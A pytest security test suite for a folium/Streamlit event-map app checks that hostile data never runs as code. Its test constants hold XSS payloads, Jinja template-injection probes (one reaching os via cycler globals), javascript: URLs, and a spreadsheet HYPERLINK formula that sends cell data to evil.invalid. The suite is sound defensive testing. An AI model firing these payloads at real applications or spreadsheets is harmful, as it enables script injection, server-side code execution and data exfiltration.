"""Hostile text (issue 7.1): nothing from the data runs, on the server or in the browser.

`tests/data/hostile/events_hostile.csv` holds valid events with markup, script, template syntax,
`javascript:` links, bidirectional overrides and spreadsheet formulas in every text field. Checked here:

- without a browser: the file loads; template syntax in the data is never evaluated by the page
  builders (folium/branca render their output as Jinja templates); no element or event handler
  comes into a page from the data (the tags of a page built from hostile data are those of the same
  page built from plain text); the CSV export neutralises formulas;
- in chromium (`@pytest.mark.browser`): the standalone map, the presentation document (= the standalone
  HTML export) and the running app on that file: every popup, card, the legend and the table are
  opened, no dialog fires, no script error is thrown, no `javascript:` URL is in any DOM, and the
  hostile text is shown literally.
"""

from __future__ import annotations

import csv
import functools
import http.server
import io
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pandas as pd
import pytest

from base.csv_safety import FORMULA_STARTS, NUMERIC_COLUMNS
from eventmap.loading import load_events
from eventmap.schema import COLUMN_NAMES

PROJECT_ROOT = Path(__file__).resolve().parents[2]
HOSTILE_CSV = PROJECT_ROOT / "tests" / "data" / "hostile" / "events_hostile.csv"
HOSTILE_ROWS = 22
TEXT_COLUMNS = (
    "location", "country", "admin1", "side", "actor", "target", "description", "description_original",
    "claimed_by", "disputed_by", "notes",
)
# Texts of the file that a popup or card must show exactly as written.
SHOWN_LITERALLY = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</script><script>alert(1)</script>",
    "{{7*7}} ${alert(1)}",
    "`+alert(1)+`",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<a href="javascript:alert(1)">click me</a>',
)
# Template syntax that would reveal evaluation (folium and branca compile their output as Jinja templates).
TEMPLATE_PROBES = (
    "{{ 'TEMPLATE' ~ '-EVALUATED' }}",
    "{% if true %}TEMPLATE-{% endif %}EVALUATED",
    "{% raw %} unterminated",
    "{# unterminated comment",
    "{{ cycler.__init__.__globals__.os.getpid() }}",
)


@pytest.fixture(scope="module")
def hostile_events() -> pd.DataFrame:
    return load_events(HOSTILE_CSV).events


def with_text(frame: pd.DataFrame, make: Callable[[int, str], str]) -> pd.DataFrame:
    """`frame` with every text column replaced by `make(row_number, column)`."""
    copy = frame.copy()
    for column in (*TEXT_COLUMNS, "event_id"):
        copy[column] = [make(i, column) for i in range(len(copy))]
    return copy


def plain_events(frame: pd.DataFrame) -> pd.DataFrame:
    """The same events with harmless text (distinct sides and ids, like the hostile file)."""
    return with_text(frame, lambda i, column: f"plain {column} {i}")


# ---- builders of every page that shows events ------------------------------------------------------------------


def standalone_map(frame: pd.DataFrame) -> str:
    from eventmap.mapping import build_map

    return build_map(frame, naming="en", asset_mode="inline").get_root().render()


def served_map_with_layer(frame: pd.DataFrame) -> str:
    """The app's way: a base map without events plus the events layer (as st_folium renders it)."""
    from eventmap.mapping import build_event_layer, build_map

    base = build_map(frame, naming="en", with_events=False)
    build_event_layer(frame, naming="en").add_to(base)
    return base.get_root().render()


def playback_document(frame: pd.DataFrame) -> str:
    from eventmap.filtering import Filters
    from eventmap.playback.document import build_playback_document

    hostile_text = str(frame["description"].iloc[0])
    return build_playback_document(
        frame, naming="en", lang="en", asset_mode="inline", title=hostile_text, filters=Filters(text=hostile_text)
    )


def standalone_html_export(frame: pd.DataFrame) -> str:
    from eventmap.export.html import render_html
    from eventmap.filtering import Filters

    hostile_text = str(frame["description"].iloc[0])
    return render_html(frame, naming="en", lang="en", title=hostile_text, filters=Filters(text=hostile_text))


PAGE_BUILDERS: dict[str, Callable[[pd.DataFrame], str]] = {
    "standalone-map": standalone_map,
    "app-map": served_map_with_layer,
    "playback": playback_document,
    "html-export": standalone_html_export,
}


# ---- without a browser -----------------------------------------------------------------------------------------


def test_every_hostile_row_loads() -> None:
    result = load_events(HOSTILE_CSV)
    assert result.rows_read == HOSTILE_ROWS
    assert len(result.events) == HOSTILE_ROWS, [str(p) for p in result.problems]
    assert result.rejected == []
    assert "<script>alert(1)</script>" in set(result.events["description"])


@pytest.mark.parametrize("probe", TEMPLATE_PROBES)
@pytest.mark.parametrize("builder", PAGE_BUILDERS, ids=str)
def test_template_syntax_in_the_data_is_never_evaluated(hostile_events: pd.DataFrame, builder: str,
                                                        probe: str) -> None:
    """A `{{ ... }}` in a description must not run Python on the server (it did: folium re-renders as Jinja)."""
    import os

    frame = with_text(hostile_events.head(3), lambda i, column: f"{probe} {column} {i}")
    page = PAGE_BUILDERS[builder](frame)  # must not raise a TemplateSyntaxError either
    assert "TEMPLATE-EVALUATED" not in page
    assert f"{os.getpid()} description 0" not in page
    assert "description 0" in page.replace("\\u0020", " ")


class TagCensus(HTMLParser):
    """How many elements of each kind a page has, and which event-handler or URL attributes."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.handlers: list[str] = []
        self.script_urls: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"<{tag} {name}={value!r}>")
            compact = "".join((value or "").split()).lower()
            if name in {"href", "src", "action", "formaction", "data"} and compact.startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                self.script_urls.append(f"<{tag} {name}={value!r}>")


def census(page: str) -> TagCensus:
    parser = TagCensus()
    parser.feed(page)
    parser.close()
    return parser


@pytest.mark.parametrize("builder", PAGE_BUILDERS, ids=str)
def test_hostile_data_adds_no_element_and_no_handler_to_a_page(hostile_events: pd.DataFrame, builder: str) -> None:
    """The same page built from hostile and from plain text has the same elements: nothing broke out."""
    hostile = census(PAGE_BUILDERS[builder](hostile_events))
    plain = census(PAGE_BUILDERS[builder](plain_events(hostile_events)))
    assert hostile.tags == plain.tags
    assert hostile.handlers == plain.handlers
    assert hostile.script_urls == []


def test_the_csv_export_neutralises_every_formula(hostile_events: pd.DataFrame) -> None:
    from eventmap.export.tables import events_csv

    text = events_csv(hostile_events).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == HOSTILE_ROWS
    dangerous = [
        f"{row['event_id']}: {column}={value[:30]!r}"
        for row in rows
        for column, value in row.items()
        if column not in NUMERIC_COLUMNS and value.startswith(FORMULA_STARTS)
    ]
    assert dangerous == []
    by_id = {row["event_id"]: row for row in rows}
    assert by_id["H13-formula-eq"]["description"] == '\'=HYPERLINK("http://evil.invalid/?d="&A1,"click")'
    assert by_id["H16-formula-at"]["description"].startswith("'@SUM")
    assert set(COLUMN_NAMES) <= set(rows[0])


# ---- in chromium -----------------------------------------------------------------------------------------------

# Every element and attribute of a document (and its shadow roots) that would run data: returns the findings.
DOM_CHECK = """
() => {
  const found = [];
  const scriptish = /^(javascript|vbscript|data:text\\/html)/i;
  const visit = (root) => {
    for (const el of root.querySelectorAll('*')) {
      for (const attr of Array.from(el.attributes)) {
        const name = attr.name.toLowerCase();
        const compact = attr.value.replace(/[\\s\\u0000-\\u001f]+/g, '');
        if (name.startsWith('on') && /alert|msgbox/.test(attr.value)) found.push(`${el.tagName} ${name}`);
        if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(name) && scriptish.test(compact))
          found.push(`${el.tagName} ${name}=${attr.value.slice(0, 60)}`);
      }
      if (el.tagName === 'SCRIPT' && /^\\s*alert\\(1\\)/.test(el.textContent)) found.push('SCRIPT alert(1)');
      if (el.tagName === 'BASE') found.push('BASE ' + el.getAttribute('href'));
      if (el.shadowRoot) visit(el.shadowRoot);
    }
  };
  visit(document);
  for (const a of document.querySelectorAll('a')) {
    if (a.protocol && !['http:', 'https:', 'about:', 'blob:', 'file:', 'mailto:'].includes(a.protocol)
        && a.getAttribute('href') !== null && !a.getAttribute('href').startsWith('#'))
      found.push('A ' + a.protocol + ' ' + a.getAttribute('href').slice(0, 60));
  }
  return found;
}
"""

# Opens the popup of every point of every Leaflet map in the frame, markers hidden in clusters included, as
# a click would (the marker's own handlers, then its parent layers' with `e.layer` set, as markercluster
# does), and returns [{text, links}] per popup. With `keepFirstOpen`, stops at the first popup, left open.
OPEN_EVERY_POPUP = """
async (keepFirstOpen) => {
  if (!window.L) return null;
  const maps = new Set();
  for (const key of Object.keys(window)) {
    try { if (window[key] instanceof L.Map) maps.add(window[key]); } catch (e) { /* not ours */ }
  }
  const popups = [];
  for (const map of maps) {
    const parents = new Map();
    const leaves = [];
    const visit = (layer, parent) => {
      if (parents.has(layer)) return;
      parents.set(layer, parent);
      if (layer.getLayers) layer.getLayers().forEach((child) => visit(child, layer));
      else if (layer.getLatLng) leaves.push(layer);
    };
    map.eachLayer((layer) => visit(layer, null));
    // The open popup's content (a closed popup's element lingers while it fades out).
    const opened = () => (map._popup && map._popup.isOpen() && map._popup.getElement()
      ? map._popup.getElement().querySelector('.leaflet-popup-content') : null);
    for (const layer of leaves) {
      map.closePopup();
      const latlng = layer.getLatLng();
      if (layer.getPopup && layer.getPopup()) {
        map.openPopup(layer.getPopup(), latlng);
      } else {
        layer.fire('click', {latlng}, true);
        for (let parent = parents.get(layer); !opened() && parent; parent = parents.get(parent)) {
          parent.fire('click', {latlng, layer, sourceTarget: layer, propagatedFrom: layer}, false);
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 0));
      const element = opened();
      if (!element) continue;
      popups.push({
        text: element.textContent,
        links: Array.from(element.querySelectorAll('a[href]')).map((a) => a.getAttribute('href')),
      });
      if (keepFirstOpen) return popups;
    }
    map.closePopup();
  }
  return popups;
}
"""

# Clicks every event of the presentation document (all days shown) and returns each card's text and links.
OPEN_EVERY_CARD = """
async () => {
  const cfg = JSON.parse(document.getElementById('pb-config').textContent);
  const map = window[cfg.mapVar];
  const mode = document.getElementById('pb-mode');
  mode.value = 'cumulative';
  mode.dispatchEvent(new Event('change'));
  const last = new Date(Date.parse(cfg.origin) + cfg.lastDay * 86400000).toISOString().slice(0, 10);
  window.eventmapPlayback.goTo(last);
  await new Promise((resolve) => setTimeout(resolve, 50));
  const cards = [];
  const markers = [];
  map.eachLayer((layer) => { if (layer.options && layer.options.className === 'pb-marker') markers.push(layer); });
  for (const marker of markers) {
    marker.fire('click');
    await new Promise((resolve) => setTimeout(resolve, 0));
    const card = document.getElementById('pb-card');
    cards.push({
      id: card.getAttribute('data-event-id'),
      text: document.getElementById('pb-card-body').textContent,
      links: Array.from(card.querySelectorAll('a[href]')).map((a) => a.getAttribute('href')),
    });
  }
  return {cards, legend: document.getElementById('pb-legend').textContent,
          title: document.getElementById('pb-title').textContent};
}
"""


@dataclass
class Watch:
    """Dialogs and script errors of a page and all its frames."""

    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def attach(self, page) -> None:
        def on_dialog(dialog) -> None:
            self.dialogs.append(f"{dialog.type}: {dialog.message}")
            dialog.dismiss()

        page.on("dialog", on_dialog)
        page.on("pageerror", lambda error: self.errors.append(str(error)))


def assert_nothing_ran(page, watch: Watch) -> None:
    findings = []
    for frame in page.frames:
        try:
            findings += [f"{frame.url[:60]}: {f}" for f in frame.evaluate(DOM_CHECK)]
        except Exception as error:
            if "detached" not in str(error).lower():
                raise
    assert watch.dialogs == [], "data ran as script"
    assert findings == [], "markup from the data became elements or links"
    assert watch.errors == [], "script errors (a string from the data may have broken out)"


def assert_links_are_web_links(links: list[str]) -> None:
    assert [h for h in links if not h.lower().startswith(("http://", "https://"))] == []


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def serve_pages(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Callable[[str, str], str]]:
    """`serve(name, html)` -> an http://127.0.0.1 URL of the page (file:// is blocked by the page fixture)."""
    folder = tmp_path_factory.mktemp("hostile-pages")
    handler = functools.partial(_Quiet, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()

    def serve(name: str, html: str) -> str:
        (folder / name).write_text(html, encoding="utf-8")
        return f"http://127.0.0.1:{server.server_address[1]}/{quote(name)}"

    yield serve
    server.shutdown()
    server.server_close()


@pytest.mark.browser
def test_standalone_map_shows_every_popup_and_the_legend_literally(
    page, screenshot, serve_pages, hostile_events: pd.DataFrame
) -> None:
    watch = Watch()
    watch.attach(page)
    page.goto(serve_pages("hostile-map.html", standalone_map(hostile_events)))
    page.wait_for_selector(".em-legend-box")
    page.wait_for_function("document.querySelectorAll('.em-marker, .marker-cluster').length > 0")

    popups = page.evaluate(OPEN_EVERY_POPUP, False)
    assert len(popups) == HOSTILE_ROWS
    shown = "\n".join(p["text"] for p in popups)
    for text in SHOWN_LITERALLY:
        assert text in shown
    assert_links_are_web_links([link for p in popups for link in p["links"]])
    legend = page.text_content(".em-legend-box")
    assert "<script>alert(1)</script> [side script]" in legend
    page.evaluate(OPEN_EVERY_POPUP, True)
    page.wait_for_timeout(400)  # the popup fades in
    screenshot(page, "hostile-standalone-map")
    assert_nothing_ran(page, watch)
    assert page.blocked_requests == []


@pytest.mark.browser
@pytest.mark.parametrize("builder", ["playback", "html-export"])
def test_presentation_cards_show_every_event_literally(
    page, screenshot, serve_pages, hostile_events: pd.DataFrame, builder: str
) -> None:
    watch = Watch()
    watch.attach(page)
    page.goto(serve_pages(f"hostile-{builder}.html", PAGE_BUILDERS[builder](hostile_events)))
    page.wait_for_selector("#pb-root[data-ready='true']", state="attached")

    result = page.evaluate(OPEN_EVERY_CARD)
    cards = result["cards"]
    assert sorted(c["id"] for c in cards) == sorted(hostile_events["event_id"])
    shown = "\n".join(c["text"] for c in cards)
    for text in SHOWN_LITERALLY:
        assert text in shown
    assert_links_are_web_links([link for c in cards for link in c["links"]])
    assert "<script>alert(1)</script> [side script]" in result["legend"]
    assert "<script>alert(1)</script>" in result["title"]
    screenshot(page, f"hostile-{builder}-card")
    assert_nothing_ran(page, watch)
    assert page.blocked_requests == []


def map_frame(page):
    """The frame of the app's map (streamlit-folium's iframe)."""
    page.wait_for_selector('iframe[title="streamlit_folium.st_folium"]')
    for _ in range(200):
        for frame in page.frames:
            try:
                if frame.evaluate("() => !!(window.L && document.querySelector('.em-marker, .marker-cluster'))"):
                    return frame
            except Exception:  # noqa: S112 (a frame still loading)
                continue
        page.wait_for_timeout(100)
    raise AssertionError("the map's frame never showed a marker")


@pytest.fixture(scope="module")
def hostile_app(start_app) -> str:
    return start_app({"EVENTMAP_DATA": str(HOSTILE_CSV)})


@pytest.mark.browser
def test_the_app_shows_hostile_data_literally(page, screenshot, hostile_app: str) -> None:
    watch = Watch()
    watch.attach(page)
    page.goto(f"{hostile_app}/?event={quote('H00-script')}")
    frame = map_frame(page)

    popups = frame.evaluate(OPEN_EVERY_POPUP, False)
    assert len(popups) == HOSTILE_ROWS
    shown = "\n".join(p["text"] for p in popups)
    for text in SHOWN_LITERALLY:
        assert text in shown
    assert_links_are_web_links([link for p in popups for link in p["links"]])
    assert "<script>alert(1)</script> [side script]" in frame.text_content(".em-legend-box")

    # The selected event's card under the map (st.html), and the table.
    page.get_by_text("H00-script", exact=True).first.wait_for()
    assert page.locator("text=<script>alert(1)</script> [actor]").count() >= 1
    page.locator('[data-testid="stDataFrame"]').first.wait_for()
    frame.evaluate(OPEN_EVERY_POPUP, True)
    page.wait_for_timeout(400)  # the popup fades in
    screenshot(page, "hostile-app")
    assert_nothing_ran(page, watch)
    assert page.blocked_requests == []


@pytest.mark.browser
def test_the_app_presentation_mode_shows_hostile_data_literally(page, screenshot, hostile_app: str) -> None:
    watch = Watch()
    watch.attach(page)
    page.goto(f"{hostile_app}/?present=1&q=")
    page.wait_for_timeout(500)
    frame = None
    for _ in range(300):
        frame = next((f for f in page.frames if _ready_playback(f)), None)
        if frame is not None:
            break
        page.wait_for_timeout(100)
    assert frame is not None, "the presentation view did not appear"
    result = frame.evaluate(OPEN_EVERY_CARD)
    shown = "\n".join(c["text"] for c in result["cards"])
    for text in SHOWN_LITERALLY:
        assert text in shown
    screenshot(page, "hostile-app-presentation")
    assert_nothing_ran(page, watch)


def _ready_playback(frame) -> bool:
    try:
        return bool(frame.evaluate("() => !!document.querySelector(\"#pb-root[data-ready='true']\")"))
    except Exception:
        return False


HOSTILE_QUERIES = (
    "q=" + quote("<img src=x onerror=alert(1)>"),
    "q=" + quote("{{ 'TEMPLATE' ~ '-EVALUATED' }}"),
    "side=" + quote("[click](javascript:alert(1))") + "&lat=" + quote("<script>alert(1)</script>"),
    "zoom=" + quote("[x](javascript:alert(1))") + "&event=" + quote("'><svg onload=alert(1)>"),
    "present=1&q=" + quote("{{ 'TEMPLATE' ~ '-EVALUATED' }}"),
)


@pytest.mark.browser
@pytest.mark.parametrize("query", HOSTILE_QUERIES)
def test_hostile_links_run_nothing(page, hostile_app: str, query: str) -> None:
    """A shared link is data too: its parameters are shown as text or ignored, never run."""
    watch = Watch()
    watch.attach(page)
    page.goto(f"{hostile_app}/?{query}")
    page.wait_for_selector('[data-testid="stApp"]')
    page.wait_for_function(
        "() => !document.querySelector('[data-testid=\"stStatusWidget\"]')"
        " && document.querySelectorAll('[data-testid=\"stMarkdownContainer\"], iframe').length > 0"
    )
    page.wait_for_timeout(1500)
    for frame in page.frames:
        assert "TEMPLATE-EVALUATED" not in frame_text(frame)
    assert_nothing_ran(page, watch)


def frame_text(frame) -> str:
    """The text of a frame's page ("" for a frame that went away meanwhile)."""
    try:
        return frame.evaluate("() => document.documentElement.textContent") or ""
    except Exception as error:
        if "detached" in str(error).lower() or "destroyed" in str(error).lower():
            return ""
        raise
